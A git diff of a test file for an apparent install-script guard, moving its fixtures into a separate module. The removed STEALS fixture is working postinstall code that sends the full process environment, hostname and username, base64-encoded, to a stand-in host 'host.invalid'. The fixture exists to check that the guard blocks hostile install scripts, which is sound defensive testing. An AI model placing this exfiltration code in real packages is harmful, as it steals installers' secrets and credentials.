@@ -11,6 +11,7 @@ import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { setup } from '../../lib/setup/setup.js';
 import { shimFolder } from '../../lib/tools.js';
+import { HONEST, STEALS } from '../fixtures/install-scripts.js';
 import { TestRegistry } from '../helpers/registry.js';
 import { type Toolchain, toolchain } from '../helpers/toolchains.js';
 import { allCells, type Cell, DIAGONAL, gapOf, NODES, runsScripts, titleOf } from './cells.js';
@@ -18,17 +19,6 @@ import { allCells, type Cell, DIAGONAL, gapOf, NODES, runsScripts, titleOf } fro
 const PROJECT = fileURLToPath(new URL('../../../', import.meta.url));
 const GUARD = path.join(PROJECT, 'bin/safe-install.js');
 
-/** Sends the environment away while installing; the canary shows that it ran. */
-const STEALS = `const fs = require('fs');
-const os = require('os');
-const https = require('https');
-fs.writeFileSync(process.env.CANARY_FOLDER + '/thief', '');
-const data = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username })).toString('base64');
-const request = https.request({ hostname: 'host.invalid', path: '/collect', method: 'POST' });
-request.on('error', () => {});
-request.end(data);
-`;
-const HONEST = `require('fs').writeFileSync(process.env.CANARY_FOLDER + '/honest', '');\n`;
 const scripts = { postinstall: 'node install.js' };
 const full = process.env.MATRIX === 'full';
 const cells = full ? allCells() : DIAGONAL;
